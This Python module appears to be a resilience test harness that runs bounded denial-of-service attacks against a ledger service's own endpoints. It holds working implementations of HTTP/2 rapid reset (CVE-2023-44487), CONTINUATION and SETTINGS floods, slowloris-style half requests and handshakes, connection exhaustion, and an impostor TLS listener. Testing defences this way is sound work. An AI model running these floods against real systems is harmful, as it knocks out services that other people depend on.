"""The attacks. Each gets a target, occupies it for the given time, and lets go.

An attack is bounded in connections, bytes and time, and ends by itself. If the other end cuts an
attacker off, the defence works; the attack goes on with a new connection, as an adversary would.
"""

import dataclasses
import os
import select
import socket
import ssl
import struct
import time

from . import wire
from .wire import Attacker, Target

LEDGER = "/coppice.v1.Ledger/"


@dataclasses.dataclass
class Attack:
    """An attack: its name, its description, and its target."""

    name: str
    about: str
    run: object
    # The kind of address: the ledger's API, a node, or the root log over HTTP.
    place: str = "ledger"
    # Whether the attacker shows a certificate that the ledger accepts.
    certificate: bool = True
    # The kind of process that is killed before the attack and started again after it. The attacker
    # takes its address.
    instead_of: str = ""


def hold(seconds, step=None, pause=0.05):
    """Lets the time pass, and calls `step` again and again."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if step:
            step()
        time.sleep(pause)


def opened(count, connect):
    """Opens up to `count` connections, as long as the other end accepts them."""
    held = []
    for _ in range(count):
        try:
            held.append(connect())
        except OSError:
            # The other end refuses more, as it may.
            if len(held) > 8:
                break
    return held


def let_go(held):
    for one in held:
        one.close()


def unread_ranges(target, seconds):
    """Ranges over all records, whose answers are never read. The windows of HTTP/2 limit them;
    where those are huge, the windows of TCP do."""
    held = []
    for window in (65_535, wire.WINDOW_MAX):
        attacker = Attacker(target, window=window)
        for _ in range(32):
            attacker.open(LEDGER + "Range", wire.message(b""))
        held.append(attacker)
    hold(seconds)
    let_go(held)


def unread_batch_gets(target, seconds):
    """Answers of about 12 MiB each, which are never read."""
    keys = wire.message(b"".join(wire.field(1, f"big-{number:02}".encode()) for number in range(11)))
    held = []
    for _ in range(4):
        attacker = Attacker(target)
        for _ in range(15):
            attacker.open(LEDGER + "BatchGet", keys)
        held.append(attacker)
    hold(seconds)
    let_go(held)


def partial_messages(target, seconds):
    """Messages of the greatest size, without their last byte."""
    part = bytes((12 << 20) - 1)
    held, end = [], time.monotonic() + seconds
    for _ in range(4):
        attacker = Attacker(target)
        attacker.read_some()
        for _ in range(15):
            if time.monotonic() > end:
                break
            stream = attacker.open(LEDGER + "Commit", wire.message_start(len(part) + 1), end=False)
            try:
                attacker.data(stream, part, limit=2)
            except OSError:
                break
        held.append(attacker)
    hold(end - time.monotonic())
    let_go(held)


def slow_messages(target, seconds):
    """Requests that arrive one byte at a time."""
    attackers = opened(8, lambda: Attacker(target))
    streams = [(one, one.open(LEDGER + "Commit", wire.message_start(1 << 20), end=False)) for one in attackers for _ in range(16)]

    def drip():
        for attacker, stream in streams:
            try:
                attacker.send(wire.frame(wire.DATA, 0, stream, b"x"))
            except OSError:
                pass

    hold(seconds, drip, 0.5)
    let_go(attackers)


def keep_open(count, connect):
    """An attack that makes up to `count` connections, and sends nothing more on them."""

    def run(target, seconds):
        held = opened(count, lambda: connect(target))
        hold(seconds)
        let_go(held)

    return run


def begun(target, data):
    """A TCP connection on which the first bytes of a request or a handshake were sent."""
    connection = target.socket()
    connection.sendall(data)
    return connection


def half_request(target):
    return begun(target, b"GET /checkpoint HTTP/1.1\r\nHost: log\r\n")


def half_handshake(target):
    """Sends only the head of the first TLS record."""
    return begun(target, b"\x16\x03\x01\x02\x00\x01")


def flood(target, seconds, step):
    """Sends the results of `step` as fast as the other end reads; reconnects after being cut
    off."""
    end, attacker = time.monotonic() + seconds, None
    while time.monotonic() < end:
        try:
            if attacker is None:
                attacker = Attacker(target)
            attacker.socket.settimeout(1)
            attacker.send(step(attacker))
        except OSError:
            if attacker:
                attacker.close()
            attacker = None
            time.sleep(0.05)
    if attacker:
        attacker.close()


def rapid_reset(target, seconds):
    """Calls that are reset at once (CVE-2023-44487)."""

    def step(attacker):
        out = bytearray()
        block = attacker.headers(LEDGER + "Range")
        for _ in range(100):
            stream, attacker.next_stream = attacker.next_stream, attacker.next_stream + 2
            out += wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block)
            out += wire.frame(wire.DATA, wire.END_STREAM, stream, wire.message(b""))
            out += wire.frame(wire.RST_STREAM, 0, stream, struct.pack(">I", 8))
        return bytes(out)

    flood(target, seconds, step)


def continuation_flood(target, seconds):
    """A header block without an end."""
    filler = wire.header("x-filler", "a" * 120) * 100

    def step(attacker):
        if attacker.next_stream == 1:
            attacker.next_stream = 3
            return wire.frame(wire.HEADERS, 0, 1, attacker.headers(LEDGER + "Get"))
        return wire.frame(wire.CONTINUATION, 0, 1, filler) * 8

    flood(target, seconds, step)


def settings_flood(target, seconds):
    """Settings and pings that demand answers, which are never read."""
    settings = wire.frame(wire.SETTINGS, 0, 0, struct.pack(">HI", wire.INITIAL_WINDOW_SIZE, 65_535))
    flood(target, seconds, lambda _: (settings + wire.frame(wire.PING, 0, 0, os.urandom(8))) * 200)


def impostor(target, seconds):
    """Listens in the place of a process, and shows a writer's certificate to each process that
    connects. Some must connect, and none may send a byte."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(target.certificate, target.key)
    context.set_alpn_protocols(["h2"])
    came, heard, end = 0, 0, time.monotonic() + seconds
    with socket.create_server((target.host, target.port)) as listener:
        while (left := end - time.monotonic()) > 0:
            if not select.select([listener], [], [], left)[0]:
                continue
            connection, _ = listener.accept()
            came += 1
            connection.settimeout(2)
            try:
                with context.wrap_socket(connection, server_side=True) as secured:
                    heard += len(secured.recv(1))
            except OSError:
                # The client saw the certificate, and left.
                connection.close()
    if heard or not came:
        raise AssertionError(f"{came} came, and {heard} said something")


ALL = [
    Attack("unread ranges", "64 ranges on two connections, never read", unread_ranges),
    Attack("unread answers", "60 BatchGets of 11 MiB each, never read", unread_batch_gets),
    Attack("unfinished messages", "60 messages of 12 MiB without their last byte", partial_messages),
    Attack("slow messages", "128 requests, two bytes a second each", slow_messages),
    Attack("silent connections", "300 connections without a byte", keep_open(300, Target.socket), certificate=False),
    Attack("half handshakes", "300 handshakes that stop", keep_open(300, half_handshake), certificate=False),
    Attack("no preface", "200 connections without HTTP/2", keep_open(200, Target.connect)),
    Attack("idle connections", "200 connections without a call", keep_open(200, Attacker)),
    Attack("rapid reset", "calls taken back at once, without end", rapid_reset),
    Attack("endless headers", "CONTINUATION frames without end", continuation_flood),
    Attack("settings and pings", "frames that want answers, without end", settings_flood),
    Attack("log readers", "1,200 half requests for the root log", keep_open(1200, half_request), place="log", certificate=False),
    Attack("silence at a node", "300 connections without a byte, at each node's port", keep_open(300, Target.socket), place="node", certificate=False),
    Attack("impostor of a node", "listens where a node was, with a writer's certificate", impostor, instead_of="node"),
    Attack("impostor of a coordinator", "the same where a coordinator was, at an address that clients know", impostor, instead_of="coordinator"),
]
